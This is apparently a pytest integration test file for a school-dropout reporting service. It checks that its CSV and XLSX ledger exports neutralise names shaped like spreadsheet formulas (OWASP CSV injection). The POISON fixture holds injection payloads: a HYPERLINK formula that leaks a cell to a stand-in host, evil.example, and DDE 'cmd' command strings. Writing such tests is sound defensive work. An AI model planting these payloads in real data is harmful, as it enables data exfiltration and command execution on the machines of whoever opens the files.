"""Every cell of every export is neutralised: a school, class, child or place named like a formula comes out as
text in the CSV and the XLSX ledger exports, never as a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date, datetime, timezone

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from contracts.events import CaseOpenedV1, StudentEnrolledV1, SuspectedDropoutDetectedV1
from contracts.events.registry import JurisdictionRegisteredV1
from services.reporting.adapters import exports
from services.reporting.bootstrap import api
from services.reporting.settings import ReportingSettings
from services.runtime.clock import FixedClock
from services.runtime.testing import auth

pytestmark = pytest.mark.integration
PROVINCE = auth("province_officer", "52")
TOWNSHIP = "520102001"
AT = datetime(2025, 9, 30, 9, 0, tzinfo=timezone.utc)
POISON = {
    "school": '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看")',
    "child": "+cmd|' /C calc'!A0",
    "class": "-2+3+cmd|' /C calc'!A0",
    "township": "@SUM(1+1)*cmd|' /C calc'!A0",
    "county": "\uff1dHYPERLINK(\"http://evil.example\")",
}
FORMULA_START = set("=+-@\t\r\n＝＋－＠")  # what Excel, LibreOffice and WPS read as the start of a formula


@pytest.fixture(scope="module")
def client(database_url, tmp_path_factory):
    settings = ReportingSettings(database_url=database_url, env="test", data_dir=tmp_path_factory.mktemp("var"))
    app, runtime = api(settings, clock=FixedClock(datetime(2025, 10, 1, 4, 0, tzinfo=timezone.utc)))
    with TestClient(app) as c:
        yield c
    runtime.close()


@pytest.fixture
def poisoned(feed):
    since = date(2025, 1, 1)
    for code, name, level, parent in (("520000", "贵州省", "province", None), ("520100", "贵阳市", "prefecture", "520000"),
                                      ("520102", POISON["county"], "county", "520100"),
                                      (TOWNSHIP, POISON["township"], "township", "520102")):
        feed.deliver(JurisdictionRegisteredV1(code=code, name=name, level=level, parent_code=parent,
                                              effective_from=since), subject=f"division:{code}", at=AT)
    school = feed.school(TOWNSHIP, POISON["school"])
    student = str(uuid.uuid4())
    feed.deliver(StudentEnrolledV1(student_id=student, school_id=school, county_code="520102", township_code=TOWNSHIP,
                                   grade=7, class_name=POISON["class"], name_masked=POISON["child"],
                                   id_number_masked="520102********1234"), at=AT)
    feed.deliver(SuspectedDropoutDetectedV1(
        detection_id="d1", student_id=student, school_id=school, township_code=TOWNSHIP,
        absent_days=[date(2025, 9, 29), date(2025, 9, 30)], rule="consecutive", rule_version=1, threshold_days=2),
        at=AT)
    feed.deliver(CaseOpenedV1(case_id="case-1", student_id=student, school_id=school, township_code=TOWNSHIP,
                              source="attendance", trigger_id="d1", opened_at=AT), subject="case-1", at=AT)


def assert_neutral(cells: list, where: str) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    for value in texts:
        assert value.lstrip(" \u3000")[:1] not in FORMULA_START, (where, value)


@pytest.mark.parametrize("kind", ["cases", "children", "suspected"])
def test_a_poisoned_name_is_text_in_the_csv_export(client, poisoned, kind):
    r = client.get(f"/v1/ledgers/{kind}/export", params={"format": "csv"}, headers=PROVINCE)
    assert r.status_code == 200, r.text
    lines = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [c for line in lines for c in line]
    assert len(lines) == 3, lines
    assert_neutral(cells, kind)
    assert {"'" + POISON["school"], "'" + POISON["child"], "'" + POISON["township"]} <= set(cells)


@pytest.mark.parametrize("kind", ["cases", "children", "suspected"])
def test_a_poisoned_name_is_a_string_never_a_formula_in_the_xlsx_export(client, poisoned, kind):
    r = client.get(f"/v1/ledgers/{kind}/export", params={"format": "xlsx"}, headers=PROVINCE)
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert_neutral(values, kind)
    assert {"'" + POISON["school"], "'" + POISON["child"], "'" + POISON["township"]} <= set(values)
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_the_children_export_neutralises_school_class_and_county_names(client, poisoned):
    r = client.get("/v1/ledgers/children/export", params={"format": "csv"}, headers=PROVINCE)
    cells = {c for line in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in line}
    assert {"'" + POISON["school"], "'" + POISON["class"], "'" + POISON["county"]} <= cells


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1",
                                  "＠SUM(A1)", "  =1", "\u3000=1"])
def test_every_formula_start_is_neutralised(text):
    assert exports.neutral(text) == "'" + text


@pytest.mark.parametrize("value", ["张*丰", "520102********1234", "2025-09-30", "7(1)班", "", 0, -3, 1.5, None])
def test_ordinary_values_pass_unchanged(value):
    assert exports.neutral(value) == value


def test_a_control_character_does_not_break_the_xlsx_export():
    from services.reporting.adapters.ledgers import CASES

    body = exports.to_xlsx(CASES, [{"name_masked": "张\x01*丰", "school_name": "=A1"}], "标题")
    sheet = load_workbook(io.BytesIO(body)).active
    values = [c.value for row in sheet.iter_rows() for c in row if c.value is not None]
    assert "张*丰" in values and "'=A1" in values
